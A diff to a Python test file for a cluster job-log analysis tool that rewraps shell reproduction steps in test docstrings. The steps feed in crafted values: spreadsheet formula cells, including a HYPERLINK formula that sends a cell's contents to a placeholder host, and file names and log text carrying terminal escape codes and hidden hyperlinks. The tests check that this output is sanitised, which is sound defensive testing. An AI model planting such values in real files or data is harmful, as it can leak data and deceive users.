@@ -76,7 +76,8 @@ def test_every_text_cell_of_every_csv_is_safe_for_spreadsheets(safe: Written, ra
     Reproduction (before: the cells started with = and @, and a spreadsheet ran them):
         echo '[{"jobid": "=1+1_0", "user": "@SUM(1+1)", "vc": "=HYPERLINK(\"http://x.example/?\"&A1,\"vc\")",
                "status": "Pass", "submitted_time": "2017-11-03 00:05:00", "attempts": [{"start_time":
-               "2017-11-03 01:10:00", "end_time": "2017-11-03 03:00:00", "detail": [{"ip": "m1", "gpus": ["gpu0"]}]}]}]' \\
+               "2017-11-03 01:10:00", "end_time": "2017-11-03 03:00:00",
+               "detail": [{"ip": "m1", "gpus": ["gpu0"]}]}]}]' \\
             > cluster_job_log
         gca ingest cluster_job_log --db s.duckdb && gca report --db s.duckdb --out r
         grep -h '^=\\|,=\\|,@' r/jobs.csv r/quotas.csv r/queue_delay_by_vc.csv r/wait_causes_by_vc.csv
@@ -218,7 +219,8 @@ def test_file_names_are_printable_in_the_html_tables(safe: Written) -> None:
     Reproduction (before: the page held the raw ESC, tab and newline):
         f=$(printf 'cluster_job_log\\033[31m\\tred\\nline')
         echo '[{"jobid": "j", "vc": "v", "user": "u", "status": "Pass", "submitted_time": "2017-11-03 00:00:00",
-               "attempts": [{"start_time": "None", "end_time": "None", "detail": [{"ip": "m1", "gpus": ["gpuX"]}]}]}]' > "$f"
+               "attempts": [{"start_time": "None", "end_time": "None",
+               "detail": [{"ip": "m1", "gpus": ["gpuX"]}]}]}]' > "$f"
         gca ingest "$f" --format philly_job_log --db s.duckdb && gca report --db s.duckdb --out r
         grep -c $'\\033' r/index.html
     """
@@ -278,7 +280,8 @@ def test_classify_prints_one_line_of_five_fields_per_file(tmp_path: Path) -> Non
     keeps the exact name.
 
     Reproduction (before: three lines, the first with six fields, and a live link):
-        printf 'Traceback (most recent call last):\\nRuntimeError: CUDA out of memory. \\033]8;;http://x.example\\033\\\\here\\033]8;;\\033\\\\\\n' \\
+        link='\\033]8;;http://x.example\\033\\\\here\\033]8;;\\033\\\\'
+        printf "Traceback (most recent call last):\\nRuntimeError: CUDA out of memory. $link\\n" \\
             > "$(printf 'a\\tnone\\tuser\\nb.log')"
         gca classify a* --explain
     """
